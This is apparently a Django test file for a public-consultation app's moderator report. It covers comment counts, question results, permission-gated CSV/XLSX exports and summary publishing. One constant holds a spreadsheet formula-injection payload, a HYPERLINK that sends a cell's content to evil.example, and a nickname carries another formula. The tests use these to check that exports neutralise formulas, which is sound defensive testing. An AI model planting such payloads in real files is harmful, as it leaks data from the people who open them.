"""A consultation's report: comments per section and language, the question results (the public
chart's numbers), the download of its comments (its own permission, formulas neutralised, CSV streamed)
and publishing the summary."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from engagement.consultations.models import Answer, Comment, SectionSummary
from engagement.consultations.pages import ConsultationPage
from engagement.models import OutgoingEmail
from home.groups import MODERATORS
from tests.factories.consultations import make_comment

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


@pytest.fixture
def moderator(staff_user_factory):
    return staff_user_factory(MODERATORS)


@pytest.fixture
def filled(consultation):
    """Comments in both languages on the draft and on sections, in every status, and answers."""
    page_fi, page_sv = consultation
    fi, sv = list(page_fi.sections.all()), list(page_sv.sections.all())
    make_comment(page_fi, None, text="Koko luonnos on hyvä.")
    make_comment(page_fi, fi[1], text=PAYLOAD, nickname="@SUM(1+1)", email="asukas@example.com")
    make_comment(page_fi, fi[1], status=Comment.Status.PENDING, text="Odottaa.")
    make_comment(page_sv, sv[1], text="Leden behövs.")
    make_comment(page_sv, sv[1], status=Comment.Status.REJECTED, text="Spam.")
    make_comment(page_fi, fi[2], status=Comment.Status.HIDDEN, text="Piilotettu.")
    for choice, language, page, section in [(1, "fi", page_fi, fi[1]), (1, "sv", page_sv, sv[1]),
                                            (2, "fi", page_fi, fi[1]), (5, "fi", page_fi, fi[2])]:
        Answer.objects.create(consultation=page, section=section, choice=choice, language=language)
    return page_fi, page_sv


def test_the_report_counts_per_section_and_language_and_shows_the_results(client, moderator, filled):
    page_fi, page_sv = filled
    client.force_login(moderator)
    response = client.get(reverse("consultations_comment:report", args=[page_sv.pk]))
    assert response.status_code == 200
    table = {row["heading"]: row for row in response.context["table"]}
    # The report is in the admin user's language (Finnish) whichever page it was opened from.
    assert response.context["page"].pk == page_fi.pk
    assert (table["Liikenne"]["fi"], table["Liikenne"]["sv"], table["Liikenne"]["total"]) == (2, 1, 3)
    assert (table["Liikenne"]["published"], table["Liikenne"]["pending"], table["Liikenne"]["rejected"]) == (2, 1, 1)
    assert table["Virkistys"]["hidden"] == 1 and table["Asuminen"]["total"] == 0
    assert table["Koko luonnos"]["total"] == 1
    assert response.context["totals"]["total"] == 5
    # The question results are the public chart's numbers, both languages together.
    questions = {section.heading: results for section, results in response.context["questions"]}
    assert [row["count"] for row in questions["Liikenne"]["rows"]] == [2, 1, 0]
    assert questions["Liikenne"]["total"] == 3
    assert [row["count"] for row in questions["Virkistys"]["rows"]] == [0, 0, 0, 0, 1]
    body = response.content.decode()
    assert "Kommentit osioittain ja kielittäin" in body and "Kyllä" in body


def summary_emails_to(address):
    emails = OutgoingEmail.objects.filter(template="consultations/emails/summary")
    return sum(1 for email in emails if email.to == [address])


def _export(client, page, export_format):
    return client.get(reverse("consultations_comment:index"), {"consultation": page.pk, "export": export_format})


def test_the_export_needs_its_own_permission(client, django_user_model, filled):
    user = django_user_model.objects.create_user("katsoja", "katsoja@koivula.example", "correct horse battery")
    for label, codename in [("wagtailadmin", "access_admin"), ("consultations", "view_comment")]:
        user.user_permissions.add(Permission.objects.get(content_type__app_label=label, codename=codename))
    client.force_login(user)
    report = client.get(reverse("consultations_comment:report", args=[filled[0].pk])).content.decode()
    assert "export=xlsx" not in report and "export=csv" not in report
    for export_format in ("csv", "xlsx"):
        response = _export(client, filled[0], export_format)
        assert response.status_code in (302, 403)
        assert "attachment" not in response.get("Content-Disposition", "")


def test_the_csv_export_is_streamed_neutralised_and_of_one_consultation(client, moderator, filled, index):
    make_comment(filled[0], text="Toinen")
    client.force_login(moderator)
    report = client.get(reverse("consultations_comment:report", args=[filled[0].pk])).content.decode()
    assert "export=xlsx" in report and "export=csv" in report
    response = _export(client, filled[0], "csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    texts = [cell for row in rows for cell in row]
    assert "'" + PAYLOAD in texts and PAYLOAD not in texts
    assert "'@SUM(1+1)" in texts
    assert "Leden behövs." in texts and "Toinen" in texts
    # A moderator has no permission to see the commenters' emails: the file has none.
    assert "asukas@example.com" not in texts


def test_the_xlsx_export_is_neutralised_and_has_emails_only_with_their_permission(client, moderator, filled):
    moderator.user_permissions.add(Permission.objects.get(codename="view_comment_email"))
    client.force_login(type(moderator).objects.get(pk=moderator.pk))
    response = _export(client, filled[0], "xlsx")
    assert response.status_code == 200
    assert response.streaming
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + PAYLOAD in values and PAYLOAD not in values
    assert "asukas@example.com" in values


def test_publishing_the_summary_from_the_report(client, moderator, filled):
    page_fi, page_sv = filled
    client.force_login(moderator)
    url = reverse("consultations_comment:report", args=[page_fi.pk])
    SectionSummary.objects.create(consultation=page_fi, section=page_fi.sections.all()[1], themes="Väylää toivotaan.")
    # Still open: not yet.
    client.post(url, {"action": "publish_summary"})
    assert not SectionSummary.objects.published().exists()
    ConsultationPage.objects.filter(translation_key=page_fi.translation_key).update(closes_at=timezone.now() - timedelta(hours=1))
    assert "Julkaise yhteenveto ja lähetä sähköpostit" in client.get(url).content.decode()
    response = client.post(url, {"action": "publish_summary"})
    assert response.status_code == 302
    assert SectionSummary.objects.published().count() == 1
    assert summary_emails_to("asukas@example.com") == 1
    # A second publish sends nothing new.
    client.post(url, {"action": "publish_summary"})
    assert summary_emails_to("asukas@example.com") == 1
